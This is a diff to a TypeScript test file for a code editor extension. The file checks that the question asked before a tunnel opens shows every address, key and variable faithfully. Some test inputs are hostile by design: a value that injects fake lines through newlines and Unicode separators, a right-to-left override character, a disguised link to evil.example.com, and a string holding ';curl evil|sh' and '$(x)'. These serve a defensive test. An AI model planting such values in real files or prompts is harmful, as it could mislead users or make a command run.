@@ -1,4 +1,4 @@
-/** The question before anything opens: all that is approved is in it, and nothing hides. */
+/** The question before a tunnel opens: it shows everything that is approved, and hides nothing. */
 import assert from "node:assert/strict";
 import { approvalQuestion } from "../../../../../extension/model/asking/approval-question.ts";
 import { english } from "../../../../../extension/model/translate.ts";
@@ -13,9 +13,16 @@ describe("the question about an entry", () => {
     assert.deepEqual(lines(), [
       "File: /srv/app/.vscode/tunnels.json",
       "Role: client, encrypts for local programs",
-      "Listens at: 127.0.0.1:6579",
-      "Leads to: cache.example.com:6479",
+      "Local address: 127.0.0.1:6579",
+      "Remote address: cache.example.com:6479",
       "Key: team, fingerprint aaaa-bbbb",
+    ]);
+  });
+
+  it("says that others may read the key file", () => {
+    assert.deepEqual(lines({ keys: [{ source: "/k", fingerprint: "aaaa-bbbb", shared: true }] }).slice(-2), [
+      "Key: /k, fingerprint aaaa-bbbb",
+      "⚠ A key file that others may read.",
     ]);
   });
 
@@ -33,6 +40,7 @@ describe("the question about an entry", () => {
     ["the outgoing address", { bind: "192.0.2.1" }, "Outgoing address: 192.0.2.1"],
     ["that forward secrecy is off", { forwardSecrecy: "off" }, "⚠ Forward secrecy is off: whoever gets the key later can read recorded traffic."],
     ["that forward secrecy can be talked out of", { forwardSecrecy: "prefer" }, "Forward secrecy: only if the other end has it on."],
+    ["that the service speaks TLS", { tls: true }, "TLS: the service speaks it, and so do the URLs"],
     ["the user", { user: "app" }, "User: app"],
     ["the database", { database: "orders" }, "Database: orders"],
     ["a variable with its value", { env: { DB_HOST: "db" } }, "DB_HOST=db"],
@@ -53,19 +61,19 @@ describe("the question about an entry", () => {
     );
   });
 
-  it("names every variable and cuts no value, however long", () => {
+  it("names every variable and shortens no value, however long", () => {
     const env = Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`V${index}`, "x".repeat(4_090) + index]));
     const shown = lines({ env });
     for (const [name, value] of Object.entries(env)) assert.ok(shown.includes(`${name}=${value}`));
   });
 
-  it("has the addresses and keys before the variables, which might push them out of sight", () => {
+  it("lists addresses and keys before the variables, which might push them out of sight", () => {
     const shown = lines({ env: { A: "1" }, user: "u" });
     assert.deepEqual(shown.slice(-3), ["", "Variables for terminals and programs:", "A=1"]);
   });
 
-  it("can't be given a line of its own by a value", () => {
-    const evil = "x\nListens at: 127.0.0.1:1\r\u2028\u2029\u0085Key: fine";
+  it("does not let a value add a line of its own", () => {
+    const evil = "x\nLocal address: 127.0.0.1:1\r\u2028\u2029\u0085Key: fine";
     const { title, detail } = question({
       name: evil,
       target: evil,
@@ -79,13 +87,13 @@ describe("the question about an entry", () => {
     assert.doesNotMatch(title + detail.replaceAll("\n", ""), /[\p{Cc}\u2028\u2029]/u);
   });
 
-  it("shows the address of a link instead of hiding it, and no text is reversed", () => {
+  it("shows a link's address instead of hiding it, and reverses no text", () => {
     const { detail } = question({ env: { URL: "[safe](https://evil.example.com)" }, target: "\u202eevil" });
     assert.match(detail, /URL=\[safe\]\(https:\/\/evil\.example\.com\)/);
-    assert.match(detail, /Leads to: \\u\{202e\}evil/);
+    assert.match(detail, /Remote address: \\u\{202e\}evil/);
   });
 
-  it("shows every value as the file has it", () => {
+  it("shows every value as it is in the file", () => {
     const odd = "[ls](;curl evil|sh) $(x) <b> ![i](j)";
     const shown = lines({
       listen: `/run/${odd}`,
